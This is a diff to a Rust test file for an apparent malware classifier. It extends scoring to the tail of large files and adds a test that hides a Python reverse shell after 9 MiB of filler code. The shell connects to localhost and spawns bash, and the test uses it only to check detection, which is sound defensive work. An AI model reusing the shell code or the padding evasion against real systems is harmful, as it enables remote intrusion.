@@ -50,7 +50,8 @@ fn classify_scores_a_large_file_in_part_and_says_so_whatever_the_verdict() {
     assert!(out.status.success(), "{out:?}");
     assert_eq!(rows[0]["malicious"], false, "{}", rows[0]);
     assert_eq!(rows[0]["truncated"], true, "{}", rows[0]);
-    assert_eq!(rows[0]["scored_bytes"], 8 << 20);
+    assert_eq!(rows[0]["scored_bytes"], 7 << 20);
+    assert_eq!(rows[0]["scored_tail_bytes"], 1 << 20);
     assert!(rows[1].get("truncated").is_none(), "{}", rows[1]);
 
     // The table says so too, benign or not.
@@ -58,7 +59,39 @@ fn classify_scores_a_large_file_in_part_and_says_so_whatever_the_verdict() {
     let text = String::from_utf8(out.stdout).unwrap();
     let row = text.lines().find(|l| l.contains("big.py")).unwrap();
     assert!(row.contains("benign"), "{text}");
-    assert!(row.contains("scored the first 8388608 bytes"), "{text}");
+    assert!(
+        row.contains("scored the first 7340032 and the last 1048576 bytes, each on its own"),
+        "{text}"
+    );
+}
+
+#[test]
+fn classify_scores_the_end_of_a_large_file_too() {
+    // A reverse shell after 9 MiB of ordinary code: the start alone is benign, the end is not.
+    let dir = tempfile::tempdir().unwrap();
+    let padded = dir.path().join("padded.py");
+    let mut text = String::from("import json\nimport os\n\nsettings = {}\n");
+    let mut i = 0;
+    while text.len() < 9 << 20 {
+        text.push_str(&format!(
+            "settings[\"option_{i}\"] = json.loads(os.environ.get(\"OPTION_{i}\", \"null\"))\n"
+        ));
+        i += 1;
+    }
+    let start = dir.path().join("start.py");
+    std::fs::write(&start, &text[..7 << 20]).unwrap();
+    text.push_str(
+        "import socket, pty\nsock = socket.create_connection((\"127.0.0.1\", 4444))\n\
+         for fd in (0, 1, 2):\n    os.dup2(sock.fileno(), fd)\npty.spawn(\"/bin/bash\")\n",
+    );
+    std::fs::write(&padded, &text).unwrap();
+    let (rows, out) = classify_json(&[&padded, &start]);
+    assert!(out.status.success(), "{out:?}");
+    assert_eq!(rows[0]["malicious"], true, "{}", rows[0]);
+    assert_eq!(rows[0]["scored_tail_bytes"], 1 << 20);
+    let reasons = rows[0]["reasons"].to_string();
+    assert!(reasons.contains("dup2"), "{reasons}");
+    assert_eq!(rows[1]["malicious"], false, "{}", rows[1]);
 }
 
 #[test]
